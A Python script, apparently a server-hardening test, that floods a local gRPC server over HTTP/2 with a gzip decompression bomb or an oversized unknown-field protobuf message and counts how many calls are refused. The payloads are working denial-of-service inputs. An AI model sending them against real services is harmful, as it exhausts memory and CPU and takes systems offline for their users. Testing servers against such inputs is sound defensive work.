"""bombs.py PORT gzip_bomb|protobuf_bomb SECONDS: calls whose small requests would become large, as many as the server takes.

Prints connections, calls, and how many of them were refused (any status but OK).
"""

import gzip
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

FIELDS = [(":method", "POST"), (":scheme", "http"), (":authority", "attack.test"), ("te", "trailers"), ("content-type", "application/grpc")]
STREAMS_AT_ONCE = 4


def bomb(name):
    """The path, further fields, and the request."""
    if name == "gzip_bomb":
        packed = gzip.compress(bytes(64 * 1024 * 1024))
        return "/grpc.testing.TestService/UnaryCall", [("grpc-encoding", "gzip")], struct.pack(">BI", 1, len(packed)) + packed
    # Two million fields that nobody knows, the last of them cut off: what reads them must not keep them.
    fields = b"\x18\x00" * (2 * 1024 * 1024 - 2) + b"\x18\xff"
    return "/grpc.health.v1.Health/Check", [], struct.pack(">BI", 0, len(fields)) + fields


class Attacker:
    def __init__(self, port, name):
        self.path, self.fields, self.request = bomb(name)
        self.port, self.connections, self.calls, self.refused = port, 0, 0, 0

    def run(self, end):
        while time.monotonic() < end:
            try:
                self.one_connection(end)
            except (OSError, h2.exceptions.ProtocolError):
                time.sleep(0.001)

    def one_connection(self, end):
        with socket.create_connection(("127.0.0.1", self.port), 5, ("127.0.0.2", 0)) as connection:
            self.connections += 1
            client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
            client.initiate_connection()
            waiting, statuses = {}, {}
            while time.monotonic() < end:
                while len(waiting) < STREAMS_AT_ONCE:
                    stream = client.get_next_available_stream_id()
                    client.send_headers(stream, [*FIELDS[:3], (":path", self.path), *FIELDS[3:], *self.fields])
                    waiting[stream] = 0
                for stream in waiting:
                    waiting[stream] = self.feed(client, stream, waiting[stream])
                connection.sendall(client.data_to_send())
                received = connection.recv(65_536)
                if not received:
                    return
                for event in client.receive_data(received):
                    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        statuses[event.stream_id] = dict(event.headers).get("grpc-status", statuses.get(event.stream_id))
                    elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id in waiting:
                        del waiting[event.stream_id]
                        self.calls += 1
                        self.refused += statuses.pop(event.stream_id, None) != "0"

    def feed(self, client, stream, at):
        while at < len(self.request):
            count = min(client.local_flow_control_window(stream), client.max_outbound_frame_size, len(self.request) - at)
            if count <= 0:
                break
            client.send_data(stream, self.request[at:at + count], end_stream=at + count == len(self.request))
            at += count
        return at


if __name__ == "__main__":
    attacker = Attacker(int(sys.argv[1]), sys.argv[2])
    attacker.run(time.monotonic() + float(sys.argv[3]))
    print(f"connections {attacker.connections}\ncalls {attacker.calls}\nrefused {attacker.refused}")
